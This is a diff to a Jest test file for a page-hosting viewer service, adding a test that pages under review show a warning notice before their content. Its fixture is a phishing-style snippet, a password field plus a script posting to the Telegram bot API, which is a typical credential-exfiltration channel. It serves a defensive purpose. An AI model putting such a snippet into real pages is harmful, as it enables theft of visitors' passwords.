@@ -8,6 +8,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/glob
 import { waitFor } from '@haru/testing';
 import { storagePathOf } from '../src/html-storage/artifact.js';
 import { DiskHtmlStorage } from '../src/html-storage/disk-html-storage.js';
+import { expiredText } from '../src/viewer/screens/error-texts.js';
 import { PAGE_SANDBOX } from '../src/viewer/headers/page-security.js';
 import { ask, type Answer } from './http.js';
 import { floodWith, p99Of, residentMib } from './pipelined-flood.js';
@@ -22,15 +23,10 @@ describe('viewer', () => {
 
   beforeAll(async () => {
     sites = await SitesUnderTest.start();
-    [, , { port }] = await Promise.all([sites.startService(), sites.startWorker(), sites.startViewer()]);
+    ({ port } = await sites.startAll());
   }, 60_000);
   afterAll(() => sites.stop());
 
-  const artifactsWritten = () =>
-    waitFor(async () => (await sites.rows('SELECT 1 FROM outbox')).length === 0, {
-      timeoutMs: 20_000,
-      what: 'the artifacts to be written',
-    });
   const change = (path: string, columns: string) => sites.rows(`UPDATE sites SET ${columns} WHERE path = $1`, [path]);
   const published = async (): Promise<string> => (await sites.createSite({ htmlContent: PAGE })).path;
 
@@ -70,7 +66,7 @@ describe('viewer', () => {
     const fromDatabase = await published();
     const fromStorage = await published();
     await ask(port, `/share/${fromDatabase}`);
-    await artifactsWritten();
+    await sites.eventsHandled();
     for (const path of [fromDatabase, fromStorage]) {
       const br = await ask(port, `/share/${path}`, { headers: { 'accept-encoding': 'gzip, deflate, br, zstd' } });
       const gzip = await ask(port, `/share/${path}`, { headers: { 'accept-encoding': 'gzip' } });
@@ -118,6 +114,40 @@ describe('viewer', () => {
     expect(head.status).toBe(200);
     expect(head.body).toHaveLength(0);
     expect({ ...head.headers, date: '' }).toEqual({ ...get.headers, date: '' });
+  });
+
+  it('shows a notice before a page under review, once to each visitor', async () => {
+    const text = '<input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")</script>';
+    const { path } = await sites.createSite({ htmlContent: `<title>x</title>${text}` });
+    const target = `/share/${path}?a=b`;
+    const get = (headers: Record<string, string> = {}) => ask(port, target, { headers });
+    const press = (headers: Record<string, string>) => ask(port, target, { method: 'POST', headers });
+    const notice = await get({ 'sec-fetch-dest': 'document' });
+    expect(notice).toMatchObject({ status: 200, headers: { 'cache-control': 'no-store', 'x-robots-tag': 'noindex' } });
+    expect(notice.body.toString()).toContain('このページは確認中です');
+    expect(notice.body.toString()).toContain(`/report?path=${path}"`);
+    expect(notice.body.toString()).not.toContain('<script');
+
+    expect((await press({ 'sec-fetch-site': 'cross-site' })).status).toBe(405);
+    expect((await press({ origin: 'null' })).status).toBe(405);
+    const pressed = await press({ 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': 'document' });
+    expect(pressed).toMatchObject({ status: 303, headers: { location: target } });
+    const [cookie = ''] = pressed.headers['set-cookie'] ?? [];
+    expect(cookie).toMatch(new RegExp(`; Path=/share/${path}; Max-Age=3600; HttpOnly; SameSite=Lax$`));
+    const own = cookie.split(';', 1)[0] ?? '';
+    const shown = await get({ cookie: `a=b; ${own}` });
+    expect(shown).toMatchObject({ status: 200, headers: { 'x-robots-tag': 'noindex' } });
+    expect(shown.body.toString()).toContain(text);
+    expect((await get({ cookie: `${own}x` })).body.toString()).not.toContain(text);
+    const framed = await press({ 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': 'iframe' });
+    expect(framed.body.toString()).toContain(text);
+    // Nothing of it is shown as a document.
+    expect((await get({ 'sec-fetch-dest': 'empty' })).body.toString()).toContain(text);
+
+    await change(path, 'under_review = false');
+    const showsPage = async () => (await get()).body.toString().includes(text);
+    await waitFor(showsPage, { timeoutMs: 5_000, what: 'the notice to end' });
+    expect((await get()).headers['x-robots-tag']).toBeUndefined();
   });
 
   it('shows a change of noindex within five seconds, in both directions', async () => {
@@ -179,7 +209,15 @@ describe('viewer', () => {
       if (status === 200) expect(asked).toBeLessThan(expiresAt.getTime());
       else expect(answered).toBeGreaterThanOrEqual(expiresAt.getTime());
     }
-    expectScreen(await ask(port, `/share/${path}`), 410, 'SITE_EXPIRED');
+    const { happened } = expiredText(expiresAt);
+    const expectDated = (answer: Answer) => {
+      expectScreen(answer, 410, 'SITE_EXPIRED');
+      expect(answer.body.toString()).toContain(happened);
+    };
+    expectDated(await ask(port, `/share/${path}`));
+    await sites.rows('UPDATE sites SET is_active = false WHERE path = $1', [path]);
+    await sites.changes.announce([path]);
+    for (const _ of ['from the database', 'known']) expectDated(await ask(port, `/share/${path}`));
   });
 
   it.each([
@@ -187,7 +225,7 @@ describe('viewer', () => {
     ['cut off', (file: string) => truncate(file, 100)],
   ])('serves a page whose artifact is %s from the database', async (_, damage) => {
     const path = await published();
-    await artifactsWritten();
+    await sites.eventsHandled();
     const [row] = await sites.rows<{ storage_path: string }>('SELECT storage_path FROM sites WHERE path = $1', [path]);
     const [file = ''] = (await readdir(sites.storageDirectory, { recursive: true })).filter((name) =>
       name.endsWith(`${row?.storage_path.slice(37)}.artifact`),
@@ -303,8 +341,10 @@ describe('viewer', () => {
       await ask(port, large);
       const before = await p99Of(1_000, port, small);
       open.push(...(await floodWith(port, 20, Array<string>(150).fill(large))));
-      const during = await p99Of(1_000, port, small);
-      expect(during).toBeLessThan(2 * Math.max(before, 20));
+      // The lowest of three: other work on the machine delays some of them, unread answers would delay each.
+      const during: number[] = [];
+      while (during.length < 3) during.push(await p99Of(1_000, port, small));
+      expect(Math.min(...during)).toBeLessThan(2 * Math.max(before, 20));
     });
 
     it('of pipelined requests for many pages keep few of them in memory', async () => {
